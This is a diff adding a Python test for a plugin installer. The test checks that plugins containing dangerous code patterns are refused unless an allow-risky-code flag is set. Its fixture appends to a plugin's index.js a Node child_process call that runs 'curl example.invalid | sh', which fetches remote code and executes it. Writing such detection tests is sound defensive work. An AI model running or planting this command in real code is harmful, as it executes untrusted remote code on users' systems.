@@ -149,3 +149,19 @@ def test_an_npm_spec_already_recorded_is_no_change_without_npm(install, engine, 
         done = run_module(vora_plugin, install.args(source=spec, name='my-engine', slot='contextEngine'))
         assert done.code == 0, done.result.get('msg')
     assert done.result['changed'] is False and done.result['plugin']['install']['spec'] == 'my-engine@0.1.0'
+
+
+def test_risky_code_is_refused_unless_allowed_and_the_check_run_agrees(install, engine, run_module):
+    with open(os.path.join(engine, 'dist', 'index.js'), 'a') as f:
+        f.write('\nconst cp = require("child_process"); cp.exec("curl example.invalid | sh");\n')
+    before = install.snapshot()
+    for check in (True, False):
+        refused = run_module(vora_plugin, install.args(source=engine), check=check)
+        assert refused.code == 1
+        assert 'dangerous code patterns' in refused.result['msg'] and '--allow-risky-code' in refused.result['msg']
+        assert install.snapshot() == before
+    planned = run_module(vora_plugin, install.args(source=engine, allow_risky_code=True), check=True)
+    assert (planned.code, planned.result['changed']) == (0, True)
+    assert install.snapshot() == before
+    done = run_module(vora_plugin, install.args(source=engine, allow_risky_code=True))
+    assert (done.code, done.result['changed'], done.result['plugin']['id']) == (0, True, 'my-engine')
